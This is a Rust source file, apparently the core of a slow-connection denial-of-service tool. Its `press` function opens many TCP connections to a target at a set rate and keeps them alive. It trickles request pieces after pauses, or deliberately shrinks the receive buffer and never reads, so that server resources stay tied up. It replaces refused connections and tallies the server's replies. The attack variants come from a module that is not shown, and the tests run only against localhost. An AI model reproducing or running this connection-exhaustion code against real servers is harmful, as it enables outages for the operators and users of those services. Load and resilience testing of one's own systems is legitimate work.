//! Lets clients do it, again and again, until they are told to stop.

use std::collections::BTreeMap;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep};
use tokio_util::sync::CancellationToken;

use crate::attack::{Attack, Form};
use crate::replies::Replies;

/// Whom they are after.
#[derive(Clone, Debug)]
pub struct Target {
    /// Where it listens, in plain text.
    pub address: SocketAddr,
    /// Where they come from; any address of the machine if absent.
    pub source: Option<IpAddr>,
    /// Whom they ask for.
    pub host: String,
    /// Whom they ask for to be answered late.
    pub slow: String,
}

/// What it came to.
#[derive(Clone, Debug, Default)]
pub struct Tally {
    /// Connections that came about.
    pub opened: usize,
    /// Connections that did not.
    pub refused: usize,
    /// The most that were open at once.
    pub peak: usize,
    /// Connections that the other end ended.
    pub ended: usize,
    /// How long the longest was borne, whether or not it has been ended since.
    pub longest: Duration,
    /// Bytes sent.
    pub sent: u64,
    /// The last word of each connection on which there was one, by status (`431`) or code of a
    /// GOAWAY (`goaway 11`), with how often it was said.
    pub answers: BTreeMap<String, usize>,
}

/// One connection.
#[derive(Default)]
struct Life {
    begun: Option<Instant>,
    ended_by_peer: bool,
    sent: u64,
    replies: Replies,
}

/// A receive buffer for those who do not read. What the kernel keeps is not what is attacked.
const UNREAD: u32 = 4 * 1024;

/// Attacks until it is told to stop.
///
/// # Cancel safety
/// When dropped, every connection is closed and the tally is lost.
pub async fn press(attack: Attack, target: Target, stop: CancellationToken) -> Tally {
    let (form, target) = (Arc::new(attack.form(&target)), Arc::new(target));
    let mut pace = interval(Duration::from_secs(1) / form.opens);
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    let (mut lives, mut tally) = (JoinSet::new(), Tally::default());
    loop {
        tokio::select! {
            () = stop.cancelled() => break,
            _ = pace.tick() => {}
        }
        while let Some(life) = lives.try_join_next() {
            tally.add(life.expect("a connection neither panics nor is aborted"));
        }
        if lives.len() < form.connections {
            let (form, target, stop) = (Arc::clone(&form), Arc::clone(&target), stop.clone());
            lives.spawn(async move { Life::lead(&form, &target, stop).await });
            tally.peak = tally.peak.max(lives.len());
        }
    }
    while let Some(life) = lives.join_next().await {
        tally.add(life.expect("a connection neither panics nor is aborted"));
    }
    tally
}

impl Tally {
    fn add(&mut self, (life, lasted): (Life, Duration)) {
        let Life { begun, ended_by_peer, sent, replies } = life;
        match begun {
            Some(_) => self.opened += 1,
            // Told to stop before it came about, if the other end has not said no.
            None => self.refused += usize::from(ended_by_peer),
        }
        self.ended += usize::from(begun.is_some() && ended_by_peer);
        self.longest = self.longest.max(lasted);
        self.sent += sent;
        if let Some(word) = replies.last() {
            *self.answers.entry(word).or_default() += 1;
        }
    }
}

impl Life {
    /// From the first packet to the end, and how long that was.
    async fn lead(form: &Form, target: &Target, stop: CancellationToken) -> (Self, Duration) {
        let mut life = Self::default();
        tokio::select! {
            () = stop.cancelled() => {}
            // However it ends, it was not us.
            _ = life.attack(form, target) => life.ended_by_peer = true,
        }
        let lasted = life.begun.map_or(Duration::ZERO, |begun| begun.elapsed());
        (life, lasted)
    }

    async fn attack(&mut self, form: &Form, target: &Target) -> io::Result<()> {
        let Self { begun, sent, replies, .. } = self;
        let mut stream = connect(form, target).await?;
        *begun = Some(Instant::now());
        let (mut reader, mut writer) = stream.split();
        let reading = async {
            if !form.is_read {
                return std::future::pending().await;
            }
            let mut buffer = vec![0; 4 * 1024];
            loop {
                match reader.read(&mut buffer).await? {
                    0 => return io::Result::Ok(()),
                    count => replies.take(&buffer[..count]),
                }
            }
        };
        let writing = async {
            let mut piece = form.opening.clone();
            for number in 0.. {
                // What cannot be sent any more may still be answered.
                if writer.write_all(&piece).await.is_err() {
                    break;
                }
                *sent += piece.len() as u64;
                let Some(more) = &form.more else { return std::future::pending().await };
                sleep(form.pause).await;
                piece = more(number);
            }
        };
        tokio::pin!(reading);
        tokio::select! {
            ended = &mut reading => ended,
            () = writing => match form.is_read {
                true => reading.await,
                false => Ok(()),
            },
        }
    }
}

async fn connect(form: &Form, target: &Target) -> io::Result<TcpStream> {
    let socket = match target.address {
        SocketAddr::V4(_) => TcpSocket::new_v4()?,
        SocketAddr::V6(_) => TcpSocket::new_v6()?,
    };
    if let Some(source) = target.source {
        socket.bind(SocketAddr::new(source, 0))?;
    }
    if !form.is_read {
        socket.set_recv_buffer_size(UNREAD)?;
    }
    socket.connect(target.address).await
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use tokio::net::TcpListener;

    use super::*;

    /// What an attack comes to on a server that does `serve` with each of `count` connections.
    async fn attacked<F>(attack: Attack, count: usize, serve: impl Fn(TcpStream) -> F) -> Tally
    where
        F: Future<Output = Option<TcpStream>>,
    {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let target = Target {
            address: listener.local_addr().unwrap(),
            source: Some(Ipv4Addr::new(127, 0, 0, 2).into()),
            host: "shop.example".into(),
            slow: "slow.example".into(),
        };
        let stop = CancellationToken::new();
        let pressing = tokio::spawn(press(attack, target, stop.clone()));
        let mut held = Vec::new();
        for _ in 0..count {
            let (stream, peer) = listener.accept().await.unwrap();
            assert_eq!(peer.ip(), Ipv4Addr::new(127, 0, 0, 2));
            held.extend(serve(stream).await);
        }
        stop.cancel();
        pressing.await.unwrap()
    }

    #[tokio::test]
    async fn one_that_is_refused_is_replaced_by_another() {
        let tally = attacked(Attack::ManyFields, 30, |mut stream| async move {
            let mut head = vec![0; 64 * 1024];
            let size = stream.read(&mut head).await.unwrap();
            assert!(head[..size].starts_with(b"GET / HTTP/1.1\r\nHost: shop.example\r\nX-Field"));
            stream.write_all(b"HTTP/1.1 431 \r\n\r\n").await.unwrap();
            // Read to the end, or what is left of the head resets the answer away.
            stream.shutdown().await.unwrap();
            let _ = stream.read_to_end(&mut head).await;
            None
        })
        .await;
        assert!(tally.answers["431"] >= 29, "{tally:?}");
        assert!(tally.ended >= 29 && tally.peak <= 20, "{tally:?}");
    }

    #[tokio::test]
    async fn one_that_is_borne_stays() {
        let tally = attacked(Attack::Unread, 50, async |stream| Some(stream)).await;
        assert_eq!((tally.ended, tally.peak), (0, 50), "{tally:?}");
        // The server may know of the last one before its client does.
        assert!(tally.opened >= 49, "{tally:?}");
        assert!(tally.longest > Duration::ZERO && tally.answers.is_empty(), "{tally:?}");
    }
}
